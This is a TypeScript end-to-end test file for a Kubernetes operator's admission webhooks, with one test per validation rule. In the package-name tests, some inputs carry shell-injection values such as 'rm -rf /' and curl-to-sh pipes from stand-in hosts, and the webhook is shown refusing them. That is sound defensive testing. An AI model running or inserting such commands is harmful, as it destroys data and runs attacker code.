// End-to-end admission, validation: the real kubectl against a real kube-apiserver with
// kaos-operator's webhooks registered (test/e2e/support/admission.ts). Every subtest asserts what a
// user sees — kubectl's exit code, stdout and stderr, whole — and works in namespaces of its own,
// so subtests do not depend on each other. Denials (one rule family each), the CRD schema,
// the reference policy and deletion warnings.
//
// Run `npm run build` first: the operator process is dist/main.js.
import t from 'tap';
import { eventually } from '../support/poll.ts';
import { ApiError } from '../../src/kube/errors.ts';
import { auditMark, auditSince, describeRequest } from './support/lifecycle.ts';
import {
  type Json,
  DEFAULT_MODEL,
  stack,
  useAdmissionStack,
  kubectl,
  kaos,
  apply,
  lines,
  warnings,
  created,
  invalid,
  setup,
  get,
  expectDenied,
  podSpecOf,
  hostedModel,
  pythonTools,
  agent,
} from './support/admission.ts';
import { OPERATOR_USER } from '../../src/cluster/rbac.ts';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { renderWebhookConfigurations } from '../../src/admission/webhook-configs.ts';
import type { KaosKind } from '../../src/api/kinds.ts';
import { registerWebhooks } from '../../scripts/local-stack.ts';

useAdmissionStack(t);

// ---- denials, one rule family each ------------------------------------------------------------

t.test('denied: a missing ModelAPI', async (t) => {
  const ns = 'deny-modelapi';
  await setup(t, ns);
  await expectDenied(t, ns, agent('a1', { modelAPI: 'gpt' }), invalid('Agent', 'a1', ['spec.modelAPI: Not found: "gpt"']), 'Agent naming a ModelAPI that does not exist');
});

t.test('denied: a missing MCPServer', async (t) => {
  const ns = 'deny-mcpserver';
  await setup(t, ns, [hostedModel('llm'), pythonTools('tools')]);
  await expectDenied(
    t, ns,
    agent('a1', { modelAPI: 'llm', mcpServers: ['tools', 'search'] }),
    invalid('Agent', 'a1', ['spec.mcpServers[1]: Not found: "search"']),
    'Agent naming an MCPServer that does not exist',
  );
});

t.test('denied: an agent listing itself in access', async (t) => {
  const ns = 'deny-self';
  await setup(t, ns, [hostedModel('llm')]);
  await expectDenied(
    t, ns,
    agent('a1', { modelAPI: 'llm', agentNetwork: { access: ['a1'] } }),
    invalid('Agent', 'a1', ['spec.agentNetwork.access[0]: Invalid value: "a1": an agent cannot list itself']),
    'self-reference',
  );
});

t.test('denied: duplicate names in mcpServers and access', async (t) => {
  const ns = 'deny-duplicates';
  await setup(t, ns, [hostedModel('llm'), pythonTools('tools'), agent('helper', { modelAPI: 'llm' })]);
  await expectDenied(
    t, ns,
    agent('a1', { modelAPI: 'llm', mcpServers: ['tools', 'tools'], agentNetwork: { access: ['helper', 'helper'] } }),
    invalid('Agent', 'a1', ['spec.mcpServers[1]: Duplicate value: "tools"', 'spec.agentNetwork.access[1]: Duplicate value: "helper"']),
    'duplicates',
  );
});

t.test('denied: an invalid mode', async (t) => {
  const ns = 'deny-mode';
  await setup(t, ns);
  // The CRD's enum: refused by the API server's schema validation, in the same words.
  await expectDenied(
    t, ns,
    kaos('ModelAPI', 'm1', { mode: 'Local', hostedConfig: { model: 'x' } }),
    invalid('ModelAPI', 'm1', ['spec.mode: Unsupported value: "Local": supported values: "Hosted", "Proxy"']),
    'mode Local',
  );
});

t.test('denied: Proxy without a usable proxyConfig', async (t) => {
  const ns = 'deny-proxy';
  await setup(t, ns);
  await expectDenied(t, ns, kaos('ModelAPI', 'm1', { mode: 'Proxy' }), invalid('ModelAPI', 'm1', ['spec.proxyConfig: Required value: required when mode is Proxy']), 'no proxyConfig');
  await expectDenied(
    t, ns,
    kaos('ModelAPI', 'm2', { mode: 'Proxy', proxyConfig: { env: [{ name: 'OPENAI_API_KEY', value: 'sk-test' }] } }),
    invalid('ModelAPI', 'm2', ['spec.proxyConfig: Required value: must specify at least one of apiBase, model, models, configYaml']),
    'proxyConfig without apiBase, model or configYaml',
  );
  await expectDenied(
    t, ns,
    kaos('ModelAPI', 'm3', { mode: 'Proxy', proxyConfig: { apiBase: 'host.docker.internal:11434' } }),
    invalid('ModelAPI', 'm3', ['spec.proxyConfig.apiBase: Invalid value: "host.docker.internal:11434": must be an http or https URL']),
    'apiBase without a scheme',
  );
  await expectDenied(
    t, ns,
    kaos('ModelAPI', 'm4', { mode: 'Proxy', proxyConfig: { model: 'gpt-4o' }, hostedConfig: { model: 'smollm2:135m' } }),
    invalid('ModelAPI', 'm4', ['spec.hostedConfig: Forbidden: may not be set when mode is Proxy']),
    'Proxy with a hostedConfig',
  );
});

t.test('denied: Hosted with a proxyConfig, or without a model', async (t) => {
  const ns = 'deny-hosted';
  await setup(t, ns);
  await expectDenied(
    t, ns,
    kaos('ModelAPI', 'm1', { mode: 'Hosted', hostedConfig: { model: 'smollm2:135m' }, proxyConfig: { model: 'ollama/smollm2:135m' } }),
    invalid('ModelAPI', 'm1', ['spec.proxyConfig: Forbidden: may not be set when mode is Hosted']),
    'Hosted with proxyConfig',
  );
  await expectDenied(t, ns, kaos('ModelAPI', 'm2', { mode: 'Hosted' }), invalid('ModelAPI', 'm2', ['spec.hostedConfig.model: Required value: required when mode is Hosted']), 'Hosted without hostedConfig');
});

t.test('denied: configYaml with both fromString and fromSecretKeyRef, or neither', async (t) => {
  const ns = 'deny-configyaml';
  await setup(t, ns);
  const config = 'model_list:\n  - model_name: gpt\n    litellm_params:\n      model: ollama/smollm2:135m\n';
  await expectDenied(
    t, ns,
    kaos('ModelAPI', 'm1', { mode: 'Proxy', proxyConfig: { configYaml: { fromString: config, fromSecretKeyRef: { name: 'litellm', key: 'config.yaml' } } } }),
    invalid('ModelAPI', 'm1', ['spec.proxyConfig.configYaml.fromSecretKeyRef: Forbidden: may not be set when fromString is set']),
    'both sources',
  );
  await expectDenied(
    t, ns,
    kaos('ModelAPI', 'm2', { mode: 'Proxy', proxyConfig: { configYaml: {} } }),
    invalid('ModelAPI', 'm2', ['spec.proxyConfig.configYaml: Required value: must specify exactly one of fromString, fromSecretKeyRef']),
    'neither source',
  );
});

t.test('denied: an inline LiteLLM config that is not valid YAML or has no usable model_list', async (t) => {
  const ns = 'deny-litellm';
  await setup(t, ns);
  const proxy = (name: string, fromString: string): Json => kaos('ModelAPI', name, { mode: 'Proxy', proxyConfig: { configYaml: { fromString } } });
  await expectDenied(
    t, ns,
    proxy('m1', 'model_list:\n  - model_name: gpt\n    model_name: gpt-4\n'),
    invalid('ModelAPI', 'm1', ['spec.proxyConfig.configYaml.fromString: Invalid value: must be valid YAML: duplicated mapping key at line 3, column 5']),
    'a YAML error, with its line',
  );
  await expectDenied(
    t, ns,
    proxy('m2', 'model_list:\n  - model_name: gpt\n\tlitellm_params: {}\n'),
    invalid('ModelAPI', 'm2', ['spec.proxyConfig.configYaml.fromString: Invalid value: must be valid YAML: tab characters must not be used in indentation at line 3, column 1']),
    'a tab, with its line',
  );
  await expectDenied(
    t, ns,
    proxy('m3', 'model_list:\n  - litellm_params: {model: ollama/x}\n  - model_name: ok\n  - model_name: ""\n'),
    invalid('ModelAPI', 'm3', [
      'spec.proxyConfig.configYaml.fromString: Invalid value: model_list[0] must have a model_name',
      'spec.proxyConfig.configYaml.fromString: Invalid value: model_list[2] must have a model_name',
    ]),
    'entries without model_name',
  );
  await expectDenied(
    t, ns,
    proxy('m4', 'general_settings:\n  master_key: sk-1234\n'),
    invalid('ModelAPI', 'm4', ['spec.proxyConfig.configYaml.fromString: Invalid value: must contain a model_list list']),
    'no model_list (and the config, which may hold keys, is not echoed)',
  );
});

t.test('denied: an MCPServer with two tools sources, or none', async (t) => {
  const ns = 'deny-tools';
  await setup(t, ns);
  await expectDenied(
    t, ns,
    kaos('MCPServer', 's1', { type: 'python-runtime', config: { tools: { fromPackage: 'mcp-server-fetch', fromString: 'def f():\n    pass\n' } } }),
    invalid('MCPServer', 's1', ['spec.config.tools.fromString: Forbidden: may not be set when fromPackage is set']),
    'two sources',
  );
  await expectDenied(
    t, ns,
    kaos('MCPServer', 's2', { type: 'python-runtime', config: { env: [{ name: 'LOG_LEVEL', value: 'INFO' }] } }),
    invalid('MCPServer', 's2', ['spec.config.tools: Required value: must specify exactly one of fromPackage, fromString, fromSecretKeyRef']),
    'no source',
  );
});

t.test('denied: fromString or fromSecretKeyRef on node-runtime', async (t) => {
  const ns = 'deny-node-source';
  await setup(t, ns);
  await expectDenied(
    t, ns,
    kaos('MCPServer', 's1', { type: 'node-runtime', config: { tools: { fromString: 'def f():\n    pass\n' } } }),
    invalid('MCPServer', 's1', ['spec.config.tools.fromString: Forbidden: only supported when type is python-runtime']),
    'fromString on node',
  );
  await expectDenied(
    t, ns,
    kaos('MCPServer', 's2', { type: 'node-runtime', config: { tools: { fromSecretKeyRef: { name: 'tools', key: 'tools.py' } } } }),
    invalid('MCPServer', 's2', ['spec.config.tools.fromSecretKeyRef: Forbidden: only supported when type is python-runtime']),
    'fromSecretKeyRef on node',
  );
});

t.test('denied: a package name with shell characters', async (t) => {
  const ns = 'deny-package';
  await setup(t, ns);
  await expectDenied(
    t, ns,
    kaos('MCPServer', 's1', { type: 'python-runtime', config: { tools: { fromPackage: 'mcp-server-fetch; rm -rf /' } } }),
    invalid('MCPServer', 's1', [
      "spec.config.tools.fromPackage: Invalid value: \"mcp-server-fetch; rm -rf /\": must be a PyPI package name with an optional version specifier and no spaces or shell characters (e.g. 'mcp-server-fetch' or 'mcp-server-fetch==1.2.0')",
    ]),
    'python',
  );
  await expectDenied(
    t, ns,
    kaos('MCPServer', 's2', { type: 'node-runtime', config: { tools: { fromPackage: '$(curl -s evil.example | sh)' } } }),
    invalid('MCPServer', 's2', [
      "spec.config.tools.fromPackage: Invalid value: \"$(curl -s evil.example | sh)\": must be an npm package name with an optional version and no spaces or shell characters (e.g. '@modelcontextprotocol/server-everything' or 'my-tools@1.2.0')",
    ]),
    'node',
  );
});

t.test('denied: a podSpec override that makes the pod invalid (server-side dry run of the Deployment)', async (t) => {
  const ns = 'deny-podspec';
  await setup(t, ns, [hostedModel('llm')]);
  // The generated container already has port 8000, so the override's port is the merged pod's
  // second one; the error points at it where the user wrote it (ports[0]).
  await expectDenied(
    t, ns,
    agent('a1', { modelAPI: 'llm', podSpec: { containers: [{ name: 'agent', ports: [{ containerPort: 70000 }] }] } }),
    invalid('Agent', 'a1', ['spec.podSpec.containers[0].ports[0].containerPort: Invalid value: 70000: must be between 1 and 65535, inclusive']),
    'a container port out of range',
  );
  await expectDenied(
    t, ns,
    kaos('MCPServer', 's1', {
      type: 'python-runtime',
      config: { tools: { fromPackage: 'mcp-server-fetch' } },
      podSpec: {
        volumes: [{ name: 'Scratch_Space', emptyDir: {} }],
        containers: [{ name: 'mcp-server', volumeMounts: [{ name: 'cache', mountPath: '/cache' }] }],
      },
    }),
    invalid('MCPServer', 's1', [
      "spec.podSpec.volumes[0].name: Invalid value: \"Scratch_Space\": a lowercase RFC 1123 label must consist of lower case alphanumeric characters or '-', and must start and end with an alphanumeric character (e.g. 'my-name',  or '123-abc', regex used for validation is '[a-z0-9]([-a-z0-9]*[a-z0-9])?')",
      'spec.podSpec.containers[0].volumeMounts[0].name: Not found: "cache"',
    ]),
    'an invalid volume name and a mount of a volume that does not exist',
  );

  // A valid override is accepted as it is.
  const ok = agent('a2', {
    modelAPI: 'llm',
    podSpec: {
      nodeSelector: { 'kubernetes.io/arch': 'amd64' },
      volumes: [{ name: 'cache', emptyDir: {} }],
      containers: [{ name: 'agent', volumeMounts: [{ name: 'cache', mountPath: '/cache' }] }],
    },
  });
  t.strictSame(await apply(ns, [ok]), { code: 0, stdout: created([ok]), stderr: '' }, 'a valid override is accepted');

  // Without a podSpec, what the schema leaves opaque (valueFrom, container resources) is checked
  // the same way, and reported on spec with the generated pod's field.
  await expectDenied(
    t, ns,
    agent('a3', { modelAPI: 'llm', config: { env: [{ name: 'API_KEY', value: 'x', valueFrom: { secretKeyRef: { name: 's', key: 'k' } } }] } }),
    invalid('Agent', 'a3', [
      "spec: Invalid value: the pod it generates is invalid: containers[0].env[1].valueFrom: Invalid value: \"\": may not be specified when `value` is not empty",
    ]),
    'an env entry with both value and valueFrom',
  );
});

t.test('denied: several errors of one object are reported at once', async (t) => {
  const ns = 'deny-several';
  await setup(t, ns, [hostedModel('llm')]);
  // The missing peer is still only a warning, printed with the denial.
  await expectDenied(
    t, ns,
    agent('a1', { modelAPI: 'gpt', mcpServers: ['search', 'search', 'Web_Tools'], agentNetwork: { access: ['a1', 'critic', 'critic'] } }),
    warnings('spec.agentNetwork.access[1]: Agent "critic" does not exist yet; it is wired in once it does') +
      'The Agent "a1" is invalid: \n' +
      '* spec.modelAPI: Not found: "gpt"\n' +
      '* spec.mcpServers[0]: Not found: "search"\n' +
      '* spec.mcpServers[1]: Duplicate value: "search"\n' +
      "* spec.mcpServers[2]: Invalid value: \"Web_Tools\": a lowercase RFC 1123 subdomain must consist of lower case alphanumeric characters, '-' or '.', and must start and end with an alphanumeric character (e.g. 'example.com', regex used for validation is '[a-z0-9]([-a-z0-9]*[a-z0-9])?(\\.[a-z0-9]([-a-z0-9]*[a-z0-9])?)*')\n" +
      '* spec.agentNetwork.access[0]: Invalid value: "a1": an agent cannot list itself\n' +
      '* spec.agentNetwork.access[2]: Duplicate value: "critic"\n',
    'Agent',
  );
  await expectDenied(
    t, ns,
    kaos('MCPServer', 's1', { type: 'node-runtime', config: { tools: { fromPackage: 'echo; curl evil.sh | sh', fromString: 'def echo(x): return x' } } }),
    invalid('MCPServer', 's1', [
      'spec.config.tools.fromString: Forbidden: may not be set when fromPackage is set',
      'spec.config.tools.fromString: Forbidden: only supported when type is python-runtime',
      "spec.config.tools.fromPackage: Invalid value: \"echo; curl evil.sh | sh\": must be an npm package name with an optional version and no spaces or shell characters (e.g. '@modelcontextprotocol/server-everything' or 'my-tools@1.2.0')",
    ]),
    'MCPServer',
  );
  await expectDenied(
    t, ns,
    kaos('ModelAPI', 'm1', { mode: 'Proxy', proxyConfig: { apiBase: 'ftp://ollama:11434', configYaml: { fromString: '- model_name: gpt\n' } }, hostedConfig: { model: 'x' } }),
    invalid('ModelAPI', 'm1', [
      'spec.hostedConfig: Forbidden: may not be set when mode is Proxy',
      'spec.proxyConfig.apiBase: Invalid value: "ftp://ollama:11434": must be an http or https URL',
      'spec.proxyConfig.configYaml.fromString: Invalid value: must be a YAML mapping with a model_list list',
    ]),
    'ModelAPI',
  );
});

t.test('a warning for a peer that does not exist yet costs the operator no live read', async (t) => {
  const ns = 'warn-no-live-read';
  await setup(t, ns, [hostedModel('llm')]);
  const auditLog = stack?.plane.logs.audit;
  if (auditLog === undefined) throw new Error('the admission stack runs without an audit log');
  // The audit log does record the operator: its watches and lists since it started.
  t.ok(auditSince(auditLog, 0).some((e) => e.user.username === OPERATOR_USER), 'the audit log records the operator');
  const mark = auditMark(auditLog);
  const a1 = agent('a1', { modelAPI: 'llm', agentNetwork: { access: ['critic', 'planner'] } });
  t.strictSame(
    await apply(ns, [a1]),
    {
      code: 0,
      stdout: created([a1]),
      stderr: warnings(
        'spec.agentNetwork.access[0]: Agent "critic" does not exist yet; it is wired in once it does',
        'spec.agentNetwork.access[1]: Agent "planner" does not exist yet; it is wired in once it does',
      ),
    },
    'created, with a warning per missing peer',
  );
  // A missing peer is only a warning: the cache's miss is trusted, never confirmed by a GET.
  const agentReads = auditSince(auditLog, mark)
    .filter((e) => e.user.username === OPERATOR_USER && e.verb === 'get' && e.objectRef?.resource === 'agents' && e.objectRef.namespace === ns)
    .map(describeRequest);
  t.strictSame(agentReads, [], 'no live GET of an Agent by the operator');
});

t.test('a file with several refused objects names each validating webhook; its valid objects are created', async (t) => {
  const ns = 'deny-file';
  await setup(t, ns);
  const good = hostedModel('llm');
  const objects = [
    good,
    agent('a1', { modelAPI: 'gpt', mcpServers: ['search'] }),
    kaos('ModelAPI', 'm1', { mode: 'Proxy' }),
    kaos('MCPServer', 's1', { type: 'node-runtime', config: { tools: { fromString: 'x = 1' } } }),
  ];
  const expected = {
    code: 1,
    stdout: created([good]),
    stderr: lines(
      'Error from server (Invalid): error when creating "STDIN": admission webhook "vagent.kaos.tools" denied the request: Agent.kaos.tools "a1" is invalid: [spec.modelAPI: Not found: "gpt", spec.mcpServers[0]: Not found: "search"]',
      'Error from server (Invalid): error when creating "STDIN": admission webhook "vmodelapi.kaos.tools" denied the request: ModelAPI.kaos.tools "m1" is invalid: spec.proxyConfig: Required value: required when mode is Proxy',
      'Error from server (Invalid): error when creating "STDIN": admission webhook "vmcpserver.kaos.tools" denied the request: MCPServer.kaos.tools "s1" is invalid: spec.config.tools.fromString: Forbidden: only supported when type is python-runtime',
    ),
  };
  t.strictSame(await apply(ns, objects, ['--dry-run=server']), { ...expected, stdout: created([good], ' (server dry run)') }, '--dry-run=server');
  t.strictSame(await apply(ns, objects), expected, 'for real');
  const stored = await kubectl(['get', 'agents,modelapis,mcpservers', '-n', ns, '-o', 'name']);
  t.strictSame(stored, { code: 0, stdout: 'modelapi.kaos.tools/llm\n', stderr: '' }, 'only the valid object is stored');
});

t.test('a denial is the 422 Invalid Status Kubernetes itself returns, with typed causes', async (t) => {
  const ns = 'deny-status';
  await setup(t, ns, [hostedModel('llm')]);
  if (stack === undefined) throw new Error('no local stack');
  const path = `/apis/kaos.tools/v1alpha1/namespaces/${ns}/agents`;
  const body = agent('a1', { modelAPI: 'gpt', agentNetwork: { access: ['a1'] }, podSpec: { containers: [{ name: 'agent', volumeMounts: [{ name: 'x', mountPath: '/x' }] }] } });
  for (const dryRun of [true, false]) {
    const err: unknown = await stack.client.create(path, body, { dryRun }).then(() => undefined, (e: unknown) => e);
    t.ok(err instanceof ApiError, `refused (dryRun ${dryRun})`);
    if (!(err instanceof ApiError)) continue;
    t.strictSame(
      { code: err.code, reason: err.reason, message: err.message, details: err.details },
      {
        code: 422,
        reason: 'Invalid',
        message:
          'admission webhook "vagent.kaos.tools" denied the request: Agent.kaos.tools "a1" is invalid: ' +
          '[spec.modelAPI: Not found: "gpt", spec.agentNetwork.access[0]: Invalid value: "a1": an agent cannot list itself, ' +
          'spec.podSpec.containers[0].volumeMounts[0].name: Not found: "x"]',
        details: {
          name: 'a1',
          group: 'kaos.tools',
          kind: 'Agent',
          // metav1.StatusCause's type travels as `reason`.
          causes: [
            { reason: 'FieldValueNotFound', message: 'Not found: "gpt"', field: 'spec.modelAPI' },
            { reason: 'FieldValueInvalid', message: 'Invalid value: "a1": an agent cannot list itself', field: 'spec.agentNetwork.access[0]' },
            { reason: 'FieldValueNotFound', message: 'Not found: "x"', field: 'spec.podSpec.containers[0].volumeMounts[0].name' },
          ],
        },
      },
      `the Status as the API server relays it (dryRun ${dryRun})`,
    );
  }
});

// ---- the CRD schema ---------------------------------------------------------------------------

t.test('a CRD schema error is refused by the API server itself (structural CRDs)', async (t) => {
  const ns = 'schema';
  await setup(t, ns, [hostedModel('llm')]);
  const tooMany = agent('a1', { modelAPI: 'llm', config: { reasoningLoopMaxSteps: 50 } });
  const message = 'spec.config.reasoningLoopMaxSteps: Invalid value: 50: spec.config.reasoningLoopMaxSteps in body should be less than or equal to 20';
  await expectDenied(t, ns, tooMany, invalid('Agent', 'a1', [message]), 'reasoningLoopMaxSteps 50');

  // With more than one failure kubectl prints each Status message: a webhook's is prefixed with
  // `admission webhook "..." denied the request:`; these are not, so the schema refused them
  // before any validating webhook was called. (One error per object: the API server's schema
  // validation lists several errors of one object in no fixed order.)
  const objects = [
    tooMany,
    agent('a2', { modelAPI: 'llm', config: { memory: { contextLimit: 0 } } }),
    kaos('MCPServer', 's1', { type: 'go-runtime', config: { tools: { fromPackage: 'x' } } }),
  ];
  t.strictSame(await apply(ns, objects), {
    code: 1,
    stdout: '',
    stderr: lines(
      `Error from server (Invalid): error when creating "STDIN": Agent.kaos.tools "a1" is invalid: ${message}`,
      'Error from server (Invalid): error when creating "STDIN": Agent.kaos.tools "a2" is invalid: spec.config.memory.contextLimit: Invalid value: 0: spec.config.memory.contextLimit in body should be greater than or equal to 1',
      'Error from server (Invalid): error when creating "STDIN": MCPServer.kaos.tools "s1" is invalid: spec.type: Unsupported value: "go-runtime": supported values: "node-runtime", "python-runtime"',
    ),
  });

  const conditions = await kubectl([
    'get', 'crd', 'agents.kaos.tools', 'modelapis.kaos.tools', 'mcpservers.kaos.tools', '-o',
    'jsonpath={range .items[*]}{.metadata.name}:{range .status.conditions[*]} {.type}={.status}{end}{"\\n"}{end}',
  ]);
  t.strictSame(
    conditions,
    {
      code: 0,
      stdout: lines(
        'agents.kaos.tools: NamesAccepted=True Established=True',
        'modelapis.kaos.tools: NamesAccepted=True Established=True',
        'mcpservers.kaos.tools: NamesAccepted=True Established=True',
      ),
      stderr: '',
    },
    'no NonStructuralSchema condition',
  );
});

// ---- reference policy -------------------------------------------------------------------------

t.test('reference policy Warn (namespace label) turns missing references into warnings', async (t) => {
  const ns = 'policy-warn';
  await setup(t, ns, [], { 'kaos.tools/reference-policy': 'Warn' });
  const early = agent('a1', { modelAPI: 'later', mcpServers: ['tools-later'], agentNetwork: { access: ['peer'] } });
  const expectedWarnings = warnings(
    'spec.modelAPI: Not found: "later" (allowed: reference policy Warn)',
    'spec.mcpServers[0]: Not found: "tools-later" (allowed: reference policy Warn)',
    'spec.agentNetwork.access[0]: Agent "peer" does not exist yet; it is wired in once it does',
  );
  t.strictSame(await apply(ns, [early], ['--dry-run=server']), { code: 0, stdout: created([early], ' (server dry run)'), stderr: expectedWarnings }, '--dry-run=server');
  t.strictSame(await apply(ns, [early]), { code: 0, stdout: created([early]), stderr: expectedWarnings }, 'created, with warnings');
  t.strictSame(
    (podSpecOf(await get(ns, 'Agent', 'a1')).config as Json).env,
    [{ name: 'MODEL_NAME', value: DEFAULT_MODEL }],
    'MODEL_NAME is DEFAULT_MODEL_NAME while the ModelAPI is unknown',
  );

  // The object's annotation is more specific than the namespace's label.
  await expectDenied(
    t, ns,
    agent('a2', { modelAPI: 'later' }, { annotations: { 'kaos.tools/reference-policy': 'Enforce' } }),
    invalid('Agent', 'a2', ['spec.modelAPI: Not found: "later"']),
    'annotation Enforce in a Warn namespace',
  );
});

t.test('reference policy: a per-object annotation overrides the namespace; bad values are reported', async (t) => {
  const ns = 'policy-annotation';
  await setup(t, ns);
  const warned = agent('a1', { modelAPI: 'later' }, { annotations: { 'kaos.tools/reference-policy': 'Warn' } });
  t.strictSame(
    await apply(ns, [warned]),
    { code: 0, stdout: created([warned]), stderr: warnings('spec.modelAPI: Not found: "later" (allowed: reference policy Warn)') },
    'annotation Warn in an Enforce namespace',
  );
  await expectDenied(
    t, ns,
    agent('a2', { modelAPI: 'later' }, { annotations: { 'kaos.tools/reference-policy': 'warn' } }),
    invalid('Agent', 'a2', [
      'metadata.annotations[kaos.tools/reference-policy]: Unsupported value: "warn": supported values: "Enforce", "Warn"',
      'spec.modelAPI: Not found: "later"',
    ]),
    'an annotation that is not a policy',
  );

  const badLabel = 'policy-bad-label';
  await setup(t, badLabel, [], { 'kaos.tools/reference-policy': 'Off' });
  await expectDenied(
    t, badLabel,
    agent('a1', { modelAPI: 'later' }),
    warnings('namespace label kaos.tools/reference-policy="Off" is not Enforce or Warn; using Enforce') +
      invalid('Agent', 'a1', ['spec.modelAPI: Not found: "later"']),
    'a namespace label that is not a policy is ignored, with a warning',
  );
});

// ---- deletion ---------------------------------------------------------------------------------

t.test('deleting a ModelAPI or MCPServer still in use warns, naming the Agents, and succeeds', async (t) => {
  const ns = 'deletion';
  await setup(t, ns, [
    hostedModel('llm'),
    hostedModel('spare'),
    pythonTools('tools'),
    agent('a1', { modelAPI: 'llm', mcpServers: ['tools'] }),
    agent('a2', { modelAPI: 'llm', mcpServers: ['tools'] }),
    agent('a3', { modelAPI: 'llm' }),
    agent('lead', { modelAPI: 'llm', agentNetwork: { access: ['a2'] } }),
  ]);
  const modelWarning = warnings('ModelAPI "llm" is still referenced by Agents: a1, a2, a3, lead');

  // The warning comes from the operator's cache: wait (bounded) until it has seen the Agents,
  // asking with a dry run, which is answered exactly like the real delete.
  const dryDelete = ['delete', 'modelapi', 'llm', '-n', ns, '--dry-run=server'];
  const dry = await eventually('the dry-run delete to warn about every Agent', async () => {
    const r = await kubectl(dryDelete);
    return r.code !== 0 || r.stderr === modelWarning ? r : undefined;
  }, { timeoutMs: 20_000, intervalMs: 200 });
  t.strictSame(dry, { code: 0, stdout: `modelapi.kaos.tools "llm" deleted from ${ns} namespace (server dry run)\n`, stderr: modelWarning }, 'dry run');

  t.strictSame(
    await kubectl(['delete', 'modelapi', 'llm', '-n', ns]),
    { code: 0, stdout: `modelapi.kaos.tools "llm" deleted from ${ns} namespace\n`, stderr: modelWarning },
    'ModelAPI deleted, with a warning',
  );
  t.strictSame(
    await kubectl(['delete', 'mcpserver', 'tools', '-n', ns]),
    { code: 0, stdout: `mcpserver.kaos.tools "tools" deleted from ${ns} namespace\n`, stderr: warnings('MCPServer "tools" is still referenced by Agents: a1, a2') },
    'MCPServer deleted, with a warning',
  );
  t.strictSame(
    await kubectl(['delete', 'modelapi', 'spare', '-n', ns]),
    { code: 0, stdout: `modelapi.kaos.tools "spare" deleted from ${ns} namespace\n`, stderr: '' },
    'an unused ModelAPI is deleted without a warning',
  );
  t.equal(await get(ns, 'ModelAPI', 'llm'), undefined, 'gone');
  t.strictSame(
    await kubectl(['delete', 'agent', 'a3', '-n', ns]),
    { code: 0, stdout: `agent.kaos.tools "a3" deleted from ${ns} namespace\n`, stderr: '' },
    'an Agent no one lists as a peer is deleted without a warning',
  );

  // Only new or changed references are checked: the orphaned Agent can still be edited...
  t.strictSame(await kubectl(['label', 'agent', 'a1', '-n', ns, 'team=research']), { code: 0, stdout: 'agent.kaos.tools/a1 labeled\n', stderr: '' }, 'relabel an Agent whose ModelAPI is gone');
  // ...but not pointed at another missing ModelAPI.
  t.strictSame(
    await kubectl(['patch', 'agent', 'a1', '-n', ns, '--type=merge', '-p', JSON.stringify({ spec: { modelAPI: 'llm-2' } })]),
    { code: 1, stdout: '', stderr: invalid('Agent', 'a1', ['spec.modelAPI: Not found: "llm-2"']) },
    'a changed reference is checked',
  );
  t.strictSame(
    await kubectl(['delete', 'agent', 'a2', '-n', ns]),
    { code: 0, stdout: `agent.kaos.tools "a2" deleted from ${ns} namespace\n`, stderr: warnings('Agent "a2" is still listed as a peer by Agents: lead') },
    'deleting an Agent others list as a peer warns, naming them',
  );
});


// ---- ratcheting -------------------------------------------------------------------------------

// Objects stored under earlier rules — by KAOS, an earlier version of the operator, or a restore
// with the webhooks not yet registered — stay editable (docs/api.md, "How updates are judged"):
// they are stored here with the webhook configurations removed, as a restore would store them;
// then, with the webhooks back, an edit of another field is allowed and an edit of the field that
// breaks a rule is refused. test/unit/admission/ratchet-rules.test.ts does the same for every rule.
t.test('ratcheting: objects stored without the webhooks stay editable; an edit of their broken field is judged', async (t) => {
  const live = stack;
  if (live === undefined) throw new Error('no local stack');
  const ns = 'ratchet';
  const models = { summarization: { modelAPI: 'llm', model: 'qwen2:0.5b' }, embedding: { modelAPI: 'llm', model: 'qwen2:0.5b' } };
  await setup(t, ns, [hostedModel('llm'), kaos('MemoryStore', 'notes', { storage: { type: 'local' }, models, maxReadScope: 'session' })]);
  const repo = (url: string): Json => ({ modelAPI: 'llm', harness: { runtime: 'pi', workspace: { repoURL: url } } });
  const reader = (scope: string): Json => ({ modelAPI: 'llm', config: { memory: { memoryStore: 'notes', maxReadScope: scope } } });
  const both = (hosted: string): Json => ({ mode: 'Proxy', proxyConfig: { apiBase: 'http://litellm.example:4000', model: 'gpt' }, hostedConfig: { model: hosted } });
  const pods = (replicas: number): Json => ({ storage: { type: 'local' }, models, replicas });
  const stored = [
    agent('harness', repo('git://example.com/team/repo.git')),
    agent('reader', reader('user')),
    kaos('ModelAPI', 'both', both('x')),
    kaos('MemoryStore', 'two', pods(2)),
  ];

  const names = renderWebhookConfigurations().map((c) => `${c.kind.toLowerCase()}/${c.metadata.name}`);
  t.equal((await kubectl(['delete', ...names])).code, 0, 'the webhook configurations removed');
  try {
    // The API server drops a removed configuration within a second or two: until then the dry run is refused.
    await eventually('the API server to stop calling the webhooks', async () => (await apply(ns, stored, ['--dry-run=server'])).code === 0, { timeoutMs: 30_000, intervalMs: 250 });
    t.strictSame(await apply(ns, stored), { code: 0, stdout: created(stored), stderr: '' }, 'stored as a restore would store them');
  } finally {
    const ca = await readFile(join(live.certDir, 'ca.crt'), 'utf8');
    await registerWebhooks(live.client, `https://127.0.0.1:${live.operator.webhookPort}`, ca);
  }

  const patch = (kind: string, name: string, spec: Json) => kubectl(['patch', '-n', ns, kind, name, '--type', 'merge', '-p', JSON.stringify({ spec })]);
  const other = { container: { args: ['--verbose'] } };
  for (const o of stored) {
    const kind = String(o.kind).toLowerCase();
    const name = String((o.metadata as Json).name);
    t.strictSame(await patch(kind, name, other), { code: 0, stdout: `${kind}.kaos.tools/${name} patched\n`, stderr: '' }, `${o.kind} ${name}: an edit of another field is allowed`);
  }

  const refused = async (kind: KaosKind, name: string, spec: Json, error: string): Promise<void> => {
    t.strictSame(await patch(kind.toLowerCase(), name, spec), { code: 1, stdout: '', stderr: invalid(kind, name, [error]) }, `${kind} ${name}: ${error}`);
  };
  await refused('Agent', 'harness', { harness: { workspace: { repoURL: 'git://example.com/team/other.git' } } },
    'spec.harness.workspace.repoURL: Invalid value: "git://example.com/team/other.git": must be an https://, http:// or ssh:// URL, or git@<host>:<path>');
  await refused('Agent', 'reader', { config: { memory: { maxReadScope: 'agent' } } },
    'spec.config.memory.maxReadScope: Invalid value: config.memory.maxReadScope "agent" exceeds MemoryStore "notes" maxReadScope "session"');
  await refused('ModelAPI', 'both', { hostedConfig: { model: 'y' } }, 'spec.hostedConfig: Forbidden: may not be set when mode is Proxy');
  await refused('MemoryStore', 'two', { replicas: 3 }, 'spec.replicas: Invalid value: 3: replicas must be 1 in local storage mode');
